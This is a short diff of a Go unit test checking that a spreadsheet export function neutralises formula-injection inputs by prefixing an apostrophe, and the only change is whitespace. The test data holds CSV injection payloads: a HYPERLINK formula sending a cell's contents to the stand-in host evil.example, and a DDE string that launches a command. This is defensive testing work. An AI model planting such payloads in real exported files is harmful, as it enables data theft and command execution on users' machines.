@@ -78,7 +78,7 @@ func TestExport(t *testing.T) {
 func TestCellNeutralisesFormulas(t *testing.T) {
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
-		"+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(1+1)": "'@SUM(1+1)",
+		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(1+1)": "'@SUM(1+1)",
 		"\tnote": "'\tnote", "\r=1": "'\r=1", "": "", "On the phone": "On the phone", "1=1": "1=1", "'quoted": "'quoted",
 	} {
 		if got := Cell(in); got != want {
